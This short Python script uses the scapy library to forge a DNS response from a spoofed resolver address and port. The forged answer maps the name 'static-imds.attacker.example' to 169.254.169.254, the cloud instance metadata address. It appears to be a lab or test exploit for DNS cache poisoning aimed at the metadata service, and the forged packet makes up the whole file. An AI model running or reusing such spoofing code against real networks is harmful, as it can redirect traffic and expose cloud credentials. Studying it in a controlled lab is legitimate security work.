import sys
from scapy.all import *

conf.verb = 0
p = (
    Ether(dst=sys.argv[1])
    / IP(src="10.20.0.2", dst="10.20.0.10")
    / UDP(sport=53, dport=40444)
    / DNS(
        id=4242,
        qr=1,
        aa=1,
        qd=DNSQR(qname="static-imds.attacker.example"),
        an=DNSRR(rrname="static-imds.attacker.example", ttl=60, rdata="169.254.169.254"),
    )
)
sendp(p, iface="m0")
